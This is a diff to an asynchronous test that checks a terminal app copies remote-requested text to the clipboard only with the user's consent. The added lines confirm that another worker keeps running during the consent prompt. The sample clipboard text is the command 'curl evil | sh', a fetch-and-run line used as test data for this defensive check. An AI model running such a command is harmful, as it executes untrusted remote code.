@@ -1,5 +1,6 @@
 """A remote copies only with consent, which is asked for without taking a key, and kept."""
 
+import asyncio
 from base64 import b64encode
 
 import pytest
@@ -47,8 +48,11 @@ async def test_a_host_copies_once_the_person_agrees_and_until_they_take_it_back(
         assert typed(connector) == b"y\r"
         assert app.clipboard == ""
 
+        other = app.run_worker(asyncio.Event().wait(), name="of another controller")
         await pilot.press(PREFIX, "y")
         await asked(app)
+        assert other.is_running
+        other.cancel()
         assert "curl evil | sh" in shown(app)
         await pilot.press("y")
         await until(lambda: app.clipboard == "curl evil | sh", "copy")
